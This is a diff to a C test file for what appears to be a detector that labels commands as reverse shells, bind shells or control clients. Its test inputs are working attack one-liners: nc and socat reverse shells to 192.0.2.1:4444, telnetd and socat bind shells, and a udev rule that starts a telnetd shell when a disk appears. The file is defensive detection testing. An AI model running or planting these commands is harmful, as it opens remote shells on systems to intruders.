@@ -37,8 +37,17 @@ TEST(knows_shells_of_scripts)
 	check("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f", "reverse shell");
 	check("socat TCP-LISTEN:2323,fork EXEC:/bin/sh,pty", "bind shell");
 	check("socat exec:'bash -li' tcp:192.0.2.1:4444", "reverse shell");
+	check("socat TCP-L:23,fork exec:\"busybox ash\",pty", "bind shell");
 	check("telnetd -p 9999 -l /bin/sh", "bind shell");
+	check("X=$(telnetd -l /bin/sh)", "bind shell");
+	check("X=`telnetd -l /bin/sh`", "bind shell");
 	check("ssh -f -N -R 2222:localhost:22 tunnel@192.0.2.1", "control client");
+}
+
+TEST(knows_shells_in_rules_of_udev)
+{
+	CHECK_TEXT(kind("/lib/udev/rules.d/9.rules", "KERNEL==\"sd*\", RUN+=\"/usr/sbin/telnetd -l /bin/sh\"\n"), "bind shell");
+	inspected_done(&got);
 }
 
 TEST(gives_the_other_side)
@@ -78,5 +87,5 @@ TEST(documents_do_nothing)
 	inspected_done(&got);
 }
 
-TESTS(knows_shells_of_scripts, gives_the_other_side, leaves_others_alone, knows_scripts_of_other_languages,
-      documents_do_nothing)
+TESTS(knows_shells_of_scripts, knows_shells_in_rules_of_udev, gives_the_other_side, leaves_others_alone,
+      knows_scripts_of_other_languages, documents_do_nothing)
